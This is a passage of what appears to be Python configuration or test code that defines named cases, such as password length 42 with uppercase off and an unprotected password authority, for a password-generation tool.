    "random-entropy": case(on("password", "length", 42), on("password", "upper", False)),
    "random-protected": case(on("password authority", "protect", False)),
}
